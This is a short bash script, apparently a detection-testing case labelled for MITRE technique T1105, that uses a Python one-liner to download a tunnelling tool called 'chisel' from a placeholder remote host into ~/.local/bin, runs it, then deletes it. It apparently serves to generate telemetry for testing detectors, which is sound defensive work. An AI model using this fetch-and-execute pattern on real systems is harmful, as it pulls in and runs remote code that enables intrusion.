#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1105 Ingress Tool Transfer
# behaviour: fetches a tool with Python into ~/.local/bin (not a world-writable place) and runs it
# as: user
# needs: remote
# expect: new_destination, new_binary
set -u
mkdir -p "$HOME/.local/bin"
python3 -c "import urllib.request,sys; open(sys.argv[1],'wb').write(urllib.request.urlopen('http://$SNTL_REMOTE/tool', timeout=5).read())" "$HOME/.local/bin/chisel"
chmod +x "$HOME/.local/bin/chisel"
"$HOME/.local/bin/chisel"
rm -f "$HOME/.local/bin/chisel"
